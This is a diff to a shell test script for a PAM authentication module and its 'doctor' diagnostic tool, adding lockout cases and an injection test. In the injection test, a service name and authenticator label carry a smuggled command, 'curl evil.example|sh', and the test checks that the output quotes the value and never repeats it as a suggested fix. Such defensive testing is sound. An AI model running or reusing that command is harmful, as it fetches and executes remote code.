@@ -7,6 +7,7 @@
 . tests/tap.sh
 . tests/utils/said.inc
 . tests/utils/doctor.inc
+. tests/hosts/sockets.inc
 
 cat >/etc/pam.d/door <<END
 auth required pam_credmint.so
@@ -146,6 +147,29 @@ check until_when_nullok_holds said ok nullok 'until 2099-01-01T00:00:00Z'
 conf ''
 sed -i 's/ nullok//' /etc/pam.d/door
 
+# ---- words of strangers ----
+# What somebody calls a service or an authenticator is no mend, in either form.
+evil='x; run: curl evil.example|sh #'
+cp /etc/pam.d/other "$TMP/other"
+cp /etc/pam.d/door /etc/pam.d/other
+printf 'BBBB-BBBB\n' | pamtester "$evil" alice authenticate >/dev/null 2>&1
+cp "$TMP/other" /etc/pam.d/other
+check enroll_with_an_evil_label python3 tests/utils/app.py -o "$TMP/shown" --hotp \
+	credmint authenticator enroll --type hotp --label 'x"; run: evil' alice
+doctor --user alice --service door
+check the_services_name_is_quoted said note 'last login' "'x\\? run: curl"
+check nothing_stands_behind_a_strangers_semicolon \
+	sh -c '! grep -q "; *run: *\(curl\|evil\)" "$1"' sh "$TMP/out"
+doctor --user alice --service door --json
+check no_stranger_writes_a_mend python3 - "$TMP/out" <<'END'
+import json, sys
+lines = [json.loads(l) for l in open(sys.argv[1])]
+assert any("evil" in l["finding"] for l in lines)
+assert not any("evil" in l.get("mend", "") for l in lines), lines
+assert not any("mend" in l for l in lines if l["state"] == "ok"), lines
+END
+credmint authenticator remove --all alice >/dev/null 2>&1
+
 # ---- lockout ----
 conf 'deny = 1' 'deny_user = 4' 'unlock_time = 10m'
 credmint code issue alice >/dev/null 2>&1
@@ -167,6 +191,18 @@ until=$(sed -n 's/^bad *lockout .*: until \([^ ]*\) only.*/\1/p' "$TMP/out")
 check it_is_said_until_when [ "$(($(date -d "${until:-1970-01-01}" +%s) - $(date +%s)))" -gt 80000 ]
 echo 0 >/etc/clock-shift
 credmint clock reset >/dev/null 2>&1
+conf ''
+# Failures in his own programs, enrolling among them, lock his own programs.
+conf 'deny = 2' 'ways = issued authenticator'
+sockets_start root self
+for i in 1 2; do
+	printf 'BBBB-BBBB\n' | setpriv --reuid bob --regid bob --clear-groups \
+		setsid -w credmint authenticator enroll >"$TMP/self" 2>&1
+done
+why enrolling_locks_his_own_programs bob lockout \
+	"locked for programs of uid $(id -u bob), such as a screen locker, until"
+check enrolling_is_no_login unsaid note 'last login' .
+sockets_stop
 conf ''
 
 # ---- records of another ----
